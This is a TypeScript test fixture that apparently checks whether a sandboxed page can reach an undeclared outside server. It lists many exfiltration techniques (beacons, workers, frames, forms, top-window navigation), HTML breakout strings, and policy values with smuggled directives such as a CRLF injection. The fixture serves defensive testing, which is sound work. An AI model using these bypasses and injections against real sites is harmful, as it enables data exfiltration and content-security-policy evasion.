/**
 * What a page tries in order to reach a server that it did not declare. The code finds the server's address in `OUTSIDE`;
 * `body` and `head` add HTML, in which `@` is that address, and `click` clicks what was added.
 */
export const OUTSIDE_ATTACKS: readonly (readonly [name: string, code: string])[] = [
  ["fetch", "await fetch(OUTSIDE)"],
  ["fetch without CORS", 'await fetch(OUTSIDE, { mode: "no-cors" })'],
  ["fetch that outlives the page", 'fetch(OUTSIDE, { keepalive: true, method: "POST", body: "x" })'],
  ["XMLHttpRequest", 'const request = new XMLHttpRequest(); request.open("GET", OUTSIDE); request.send()'],
  ["a web socket", 'new WebSocket(OUTSIDE.replace("http", "ws"))'],
  ["an event source", "new EventSource(OUTSIDE)"],
  ["a beacon", 'navigator.sendBeacon(OUTSIDE, "x")'],
  ["an image", "new Image().src = OUTSIDE"],
  ["an image in SVG", "body(\"<svg><image href='@'/></svg>\")"],
  ["a source set", "body(\"<picture><source srcset='@'><img></picture>\")"],
  ["a script", 'document.body.append(Object.assign(document.createElement("script"), { src: OUTSIDE }))'],
  ["a module", "await import(OUTSIDE)"],
  ["a style sheet", "head(\"<link rel=stylesheet href='@'>\")"],
  ["an import in a style", "head(\"<style>AT-import url('@')</style>\")"],
  ["a background", 'document.body.style.background = "url(" + OUTSIDE + ")"'],
  ["a font", 'const font = new FontFace("a", "url(" + OUTSIDE + ")"); document.fonts.add(font); await font.load()'],
  ["a video", "body(\"<video src='@' autoplay muted></video>\")"],
  ["a frame", "body(\"<iframe src='@'></iframe>\")"],
  ["a frame with its own text", 'body("<iframe srcdoc=\\"<img src=@>\\"></iframe>")'],
  ["a frame of data", 'body("<iframe src=\\"data:text/html,<img src=@>\\"></iframe>")'],
  ["a blank frame", 'body("<iframe></iframe>"); new frames[0].Image().src = OUTSIDE'],
  ["an object", "body(\"<object data='@'></object>\")"],
  ["an embedded page", "body(\"<embed src='@'>\")"],
  ["a form", "body(\"<form action='@'><input name=a></form>\"); document.forms[0].submit()"],
  ["a form that posts", "body(\"<form method=post action='@'></form>\"); document.forms[0].submit()"],
  ["a worker", 'new Worker(URL.createObjectURL(new Blob(["fetch(\'" + OUTSIDE + "\')"])))'],
  ["a worker of data", 'new Worker("data:text/javascript,fetch(\'" + OUTSIDE + "\')")'],
  ["a link with a ping", "body(\"<a href='#' ping='@'>a</a>\"); click()"],
  ["a link to a new window", "body(\"<a href='@' target=_blank>a</a>\"); click()"],
  ["a window", "window.open(OUTSIDE)"],
  ["a download", "body(\"<a href='@' download>a</a>\"); click()"],
  ["a prefetch", "head(\"<link rel=prefetch href='@'>\")"],
  ["a preload", "head(\"<link rel=preload as=image href='@'>\")"],
  ["a module preload", "head(\"<link rel=modulepreload href='@'>\")"],
  ["a base", 'head("<base href=\'@/\'>"); await fetch("relative")'],
  [
    "a policy of its own",
    "head(\"<meta http-equiv=content-security-policy content='default-src *'>\"); await fetch(OUTSIDE)",
  ],
  ["navigation", "location.href = OUTSIDE"],
  ["navigation without a trace", "location.replace(OUTSIDE)"],
  ["a link", "body(\"<a href='@'>a</a>\"); click()"],
  ["a refresh", "head(\"<meta http-equiv=refresh content='0;url=@'>\")"],
  ["navigation of the sandbox", "parent.location.href = OUTSIDE"],
  ["navigation of the host", "top.location.href = OUTSIDE"],
  ["a link to the top", "body(\"<a href='@' target=_top>a</a>\"); click()"],
  ["a document written anew", 'document.open(); document.write("<img src=" + OUTSIDE + ">"); document.close()'],
];

/** Code before an attack. */
export const PRELUDE = `
  const place = (text) => text.replaceAll("@", OUTSIDE).replaceAll("AT-", "@");
  const body = (text) => { document.body.innerHTML = place(text); };
  const head = (text) => document.head.insertAdjacentHTML("beforeend", place(text));
  const click = () => document.querySelector("a").click();
`;

/** Pages that try to be read before their policy, or without it. */
export const OUTSIDE_PAGES: readonly (readonly [name: string, html: string])[] = [
  ["a page that ends its head", "</head><body><img src='OUTSIDE'>VIEW"],
  ["a page that ends a comment", "--><img src='OUTSIDE'>VIEW"],
  ["a page that ends an attribute", "\"'><img src='OUTSIDE'>VIEW"],
  ["a page that ends itself", "</body></html><img src='OUTSIDE'>VIEW"],
  ["a page that ends a text", "</textarea></style></title></noscript></template><img src='OUTSIDE'>VIEW"],
  [
    "a page with a second policy",
    "<meta http-equiv=content-security-policy content='img-src *'><img src='OUTSIDE'>VIEW",
  ],
  ["a page with frames", "<frameset><frame src='OUTSIDE'></frameset>"],
  ["a page that is refreshed", "<meta http-equiv=refresh content='0;url=OUTSIDE'>VIEW"],
  ["a page with a base", "<base href='OUTSIDE/'><img src='relative'>VIEW"],
  ["a page of another kind", "<?xml version='1.0'?><!doctype svg><svg><image href='OUTSIDE'/></svg>VIEW"],
];

/** Policies that a server could send, to be let out by one of them. Each goes into every list. */
export const POLICY_ATTACKS: readonly string[] = [
  "*",
  "http:",
  "http://*",
  "http://127.0.0.1:*",
  "ORIGIN",
  "ORIGIN/",
  "https://a.example ORIGIN",
  "https://a.example; connect-src *; img-src *",
  "https://a.example\r\nconnect-src *",
  "https://a.example, default-src *",
  "'unsafe-eval'",
  "'self'; default-src *",
  '"><meta http-equiv=content-security-policy content="default-src *">',
];
